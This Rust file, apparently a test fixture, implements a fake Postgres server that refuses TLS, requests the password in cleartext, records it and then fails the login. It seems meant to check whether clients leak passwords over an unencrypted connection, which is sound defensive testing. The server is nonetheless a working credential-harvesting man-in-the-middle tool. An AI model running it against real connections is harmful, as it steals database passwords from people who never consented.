//! A fake Postgres server speaking just enough of the wire protocol to play an active man in
//! the middle: it refuses TLS (`N` to the SSLRequest), then asks for the password in clear
//! (AuthenticationCleartextPassword) and records whatever password message arrives.

use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;

const SSL_REQUEST: u32 = 80_877_103;

pub struct CleartextThief {
    pub addr: String,
    /// Passwords received, as sent.
    pub passwords: Arc<Mutex<Vec<String>>>,
    /// Connections that asked for TLS first.
    pub tls_asked: Arc<Mutex<usize>>,
}

impl CleartextThief {
    pub fn start(ip: IpAddr) -> CleartextThief {
        let listener = TcpListener::bind((ip, 0)).expect("bind fake Postgres");
        let addr = listener.local_addr().unwrap().to_string();
        let passwords = Arc::new(Mutex::new(Vec::new()));
        let tls_asked = Arc::new(Mutex::new(0));
        let (p, t) = (Arc::clone(&passwords), Arc::clone(&tls_asked));
        thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let (p, t) = (Arc::clone(&p), Arc::clone(&t));
                thread::spawn(move || {
                    let _ = serve(conn, &p, &t);
                });
            }
        });
        CleartextThief {
            addr,
            passwords,
            tls_asked,
        }
    }

    pub fn url(&self, user: &str, password: &str, query: &str) -> String {
        format!("postgresql://{user}:{password}@{}/app{query}", self.addr)
    }
}

fn read_startup(conn: &mut TcpStream) -> std::io::Result<(u32, Vec<u8>)> {
    let mut len = [0u8; 4];
    conn.read_exact(&mut len)?;
    let len = u32::from_be_bytes(len) as usize;
    let mut body = vec![0u8; len.saturating_sub(4).min(1 << 16)];
    conn.read_exact(&mut body)?;
    let code = u32::from_be_bytes([body[0], body[1], body[2], body[3]]);
    Ok((code, body))
}

fn serve(
    mut conn: TcpStream,
    passwords: &Mutex<Vec<String>>,
    tls_asked: &Mutex<usize>,
) -> std::io::Result<()> {
    let (mut code, _) = read_startup(&mut conn)?;
    if code == SSL_REQUEST {
        *tls_asked.lock().unwrap() += 1;
        conn.write_all(b"N")?;
        (code, _) = read_startup(&mut conn)?;
    }
    // Protocol 3.0 startup: ask for the password in clear.
    if code != 196_608 {
        return Ok(());
    }
    conn.write_all(&[b'R', 0, 0, 0, 8, 0, 0, 0, 3])?;
    let mut tag = [0u8; 1];
    conn.read_exact(&mut tag)?;
    let mut len = [0u8; 4];
    conn.read_exact(&mut len)?;
    let mut body = vec![
        0u8;
        (u32::from_be_bytes(len) as usize)
            .saturating_sub(4)
            .min(1 << 16)
    ];
    conn.read_exact(&mut body)?;
    if tag[0] == b'p' {
        let text = String::from_utf8_lossy(&body)
            .trim_end_matches('\0')
            .to_string();
        passwords.lock().unwrap().push(text);
    }
    // Then fail the login: the thief has what it came for.
    let msg = b"SFATAL\0C28P01\0Mpassword authentication failed\0\0";
    let mut err = vec![b'E'];
    err.extend_from_slice(&((msg.len() + 4) as u32).to_be_bytes());
    err.extend_from_slice(msg);
    conn.write_all(&err)
}
